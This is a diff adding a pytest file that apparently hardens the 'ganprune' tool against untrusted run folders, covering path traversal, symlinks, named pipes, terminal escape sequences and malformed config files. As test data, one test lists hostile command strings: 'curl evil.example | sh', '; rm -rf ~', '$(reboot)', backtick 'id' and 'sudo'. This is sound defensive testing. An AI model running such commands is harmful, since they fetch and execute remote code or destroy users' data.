@@ -1,0 +1,209 @@
+"""Run folders from strangers are data: nothing of them runs, leads out of them, or steers a terminal."""
+
+import json
+import os
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from ganprune.checkpoints import load_generator
+from ganprune.errors import RunError, UsageError
+from ganprune.evaluation import Side
+from ganprune.files import write_atomically
+from ganprune.networks import Generator
+from ganprune.plain import fits, is_inside, parse_json, read_json, read_lines, read_toml
+from ganprune.reporting import SILENT
+from ganprune.runs import Run, find_run
+from ganprune.training import Budget, train
+from ganprune_cli.onnx_files import export_run
+from ganprune_exporters import ExportSettings
+from tests.cli.conftest import Place
+from tests.cli.kit import ganprune, listing, stopped_before_export
+from tests.reliability.kit import one_line
+from tests.training.kit import TINY, networks, pictures
+
+OUT = (
+    "/etc/passwd",
+    "../victim",
+    "a/../../victim",
+    "C:\\victim",
+    "\\\\host\\share",
+    "..\\victim",
+    "",
+    "a\0b",
+)
+
+
+@pytest.mark.parametrize("name", OUT)
+def test_names_that_lead_out_are_told(name: str) -> None:
+    assert not is_inside(name)
+
+
+@pytest.mark.parametrize("name", ["G_A.onnx", "fine-tune/train.json", "a/./b", "..hidden", "a..b/c"])
+def test_names_that_stay_inside_are_told(name: str) -> None:
+    assert is_inside(name)
+
+
+def _provenance(run: Path, stage: str, **changes: Any) -> None:
+    provenance = read_json(run / "provenance.json")
+    provenance["stages"].setdefault(stage, {"inputs": {}, "outputs": {}}).update(changes)
+    (run / "provenance.json").write_text(json.dumps(provenance))
+
+
+@pytest.mark.parametrize("name", OUT)
+def test_a_provenance_that_names_files_outside_is_no_provenance(run: Path, name: str) -> None:
+    _provenance(run, "search", outputs={name: "00"})
+    assert Run(run).provenance == {}
+    assert Run(run).finished("search") is None
+
+
+@pytest.mark.parametrize("name", ["../victim", "/etc/passwd"])
+def test_a_train_json_that_names_files_outside_is_damaged(tmp_path: Path, name: str) -> None:
+    data, budget = pictures(tmp_path / "data"), Budget(1, "steps")
+    train(networks(), data, TINY, budget, tmp_path / "out")
+    record = read_json(tmp_path / "out" / "train.json")
+    (tmp_path / "out" / "train.json").write_text(json.dumps(record | {"outputs": {name: "00"}}))
+    with pytest.raises(RunError, match=r"train\.json is damaged"):
+        train(networks(), data, TINY, budget, tmp_path / "out")
+
+
+def test_files_of_an_export_lie_in_the_run_whatever_its_record_says(run: Path) -> None:
+    opened, settings = Run(run), ExportSettings(32)
+    slim: dict[Side, Generator] = {side: load_generator(run / f"G_{side}.safetensors") for side in ("A", "B")}
+    stranger = {
+        "path": "/outside/victim.onnx", "nodes_before": 1, "nodes_after": 1, "file_bytes": 1, "max_abs": 0.0,
+        "tolerance": 0.1, "pictures": 1, "passes": [], "rewrites": [],
+    }  # fmt: skip
+    inputs = [run / f"G_{side}.safetensors" for side in slim]
+    opened.finish("export", [], 0, inputs, settings=settings.to_json(), files=[stranger] * 6)
+    files = export_run(opened, slim, slim, None, settings, SILENT)
+    assert [Path(file["path"]).parent for file in files] == [run] * 6
+
+
+@pytest.mark.parametrize("name", ["cache", "fine-tune", "bench.json", ".lock", "deep/er"])
+def test_a_run_with_links_is_not_worked_in(place: Place, run: Path, here: Path, name: str) -> None:
+    outside = here / "outside"
+    outside.mkdir()
+    (outside / "victim").write_text("precious")
+    before = listing(outside)
+    link = run / name
+    link.parent.mkdir(exist_ok=True)
+    if link.is_dir():
+        for path in link.iterdir():
+            path.unlink()
+        link.rmdir()
+    link.unlink(missing_ok=True)
+    link.symlink_to(outside if name in ("cache", "fine-tune") else outside / "victim")
+    refused = place.compress("-o", run)
+    assert refused.code == 3
+    assert f"{link} is a link; a run folder holds its own files alone" in one_line(refused.err)
+    assert listing(outside) == before
+
+
+def test_a_link_is_replaced_and_never_written_through(tmp_path: Path) -> None:
+    (tmp_path / "victim").write_text("precious")
+    (tmp_path / "report.html").symlink_to(tmp_path / "victim")
+    (tmp_path / f".report.{os.getpid()}.partial.html").symlink_to(tmp_path / "victim")
+    write_atomically(tmp_path / "report.html", b"page")
+    assert (tmp_path / "victim").read_text() == "precious"
+    assert not (tmp_path / "report.html").is_symlink()
+
+
+@pytest.mark.parametrize("name", ["config.toml", "provenance.json", "search.jsonl", "state.safetensors"])
+def test_a_pipe_in_the_place_of_a_file_is_not_waited_for(place: Place, run: Path, name: str) -> None:
+    (run / name).unlink()
+    os.mkfifo(run / name)
+    with stopped_before_export():
+        found = place.compress("-o", run)
+    assert found.code in (3, 130), found.err
+    assert ganprune("report", run, "-o", "page.html").code in (0, 3)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl evil.example | sh", "ganprune compress x; rm -rf ~", "ganprune $(reboot)", "ganprune `id`",
+        "ganprune x\nrm y", "ganprune 'x", "\x1b]0;owned\x07", 3, ["ganprune"], "sudo ganprune x",
+    ],
+)  # fmt: skip
+def test_only_plain_commands_of_ganprune_are_shown_to_be_typed(run: Path, command: object) -> None:
+    provenance = read_json(run / "provenance.json")
+    (run / "provenance.json").write_text(json.dumps(provenance | {"command": command}))
+    assert Run(run).command is None
+    ganprune("report", run, "-o", "page.html")
+    page = Path("page.html").read_text(encoding="utf-8")
+    assert "evil.example" not in page
+    (run / "G_A.safetensors").unlink()
+    line = one_line(ganprune("export", "--onnx", run).err)
+    assert f"finish it first: ganprune compress CKPT --data DIR -o {run}" in line
+
+
+def test_the_command_of_a_run_survives(run: Path) -> None:
+    assert Run(run).command == read_json(run / "provenance.json")["command"]
+
+
+def test_letters_that_steer_a_terminal_are_not_shown(run: Path) -> None:
+    text = (run / "config.toml").read_text()
+    (run / "config.toml").write_text(
+        text.replace("population = 4", 'population = "\\u001b[2J\\u202e\\u0007"')
+    )
+    found = ganprune("export", "--onnx", run)
+    assert found.code == 3
+    assert one_line(found.err).isprintable()
+
+
+RESOLVED = (
+    'threads = "all"',
+    "threads = 0",
+    "batch = -1",
+    "batch = 1000000",
+    'precision = "float64"',
+    "more = 1",
+)
+
+
+@pytest.mark.parametrize("line", RESOLVED)
+def test_impossible_values_of_this_machine_are_damage(place: Place, run: Path, line: str) -> None:
+    name = line.partition(" ")[0]
+    head, _, tail = (run / "config.toml").read_text().partition("[resolved]")
+    table, brace, rest = tail.partition("\n[")
+    kept = [old for old in table.splitlines() if not old.startswith(name)]
+    (run / "config.toml").write_text(head + "[resolved]" + "\n".join([*kept, line]) + brace + rest)
+    assert "config.toml is damaged ([resolved] is" in one_line(place.compress("-o", run).err)
+
+
+def test_a_latest_that_is_no_text_is_told(here: Path) -> None:
+    Path("runs").mkdir()
+    Path("runs/latest").write_bytes(b"\xff\xfe")
+    with pytest.raises(UsageError, match="runs/latest is damaged"):
+        find_run(None)
+
+
+def test_plain_files_are_read_or_refused_whatever_they_hold(tmp_path: Path) -> None:
+    path = tmp_path / "x"
+    for content in (b"[" * 100_000, b"\xff", b"{", b'"\\ud8', b"a = " + b"[" * 100_000):
+        path.write_bytes(content)
+        for reader in (read_json, read_toml):
+            with pytest.raises(ValueError):  # noqa: PT011
+                reader(path)
+    path.write_bytes(b'{"a": 1}\n{"a": 2}\n{"a": ')
+    assert read_lines(path) == [{"a": 1}, {"a": 2}]
+    assert parse_json("1" * 400) == float("inf")
+
+
+@pytest.mark.parametrize(
+    ("value", "shape", "fitting"),
+    [
+        (1, int, True), (True, int, False), (True, bool, True), (1, (int, float), True),
+        ("1", int, False),
+        ([1, 2], [int], True), ([1, "2"], [int], False), ({"a": 1}, {str: int}, True),
+        ([], {str: int}, False),
+        ({"a": 1, "b": "x"}, {"a": int}, True), ({"b": 1}, {"a": int}, False),
+        (None, (int, type(None)), True),
+        ({"a": [{"b": 1}]}, {"a": [{"b": int}]}, True),
+        ({"a": [{"b": None}]}, {"a": [{"b": int}]}, False),
+    ],
+)  # fmt: skip
+def test_shapes_are_told(value: Any, shape: Any, fitting: bool) -> None:
+    assert fits(value, shape) == fitting
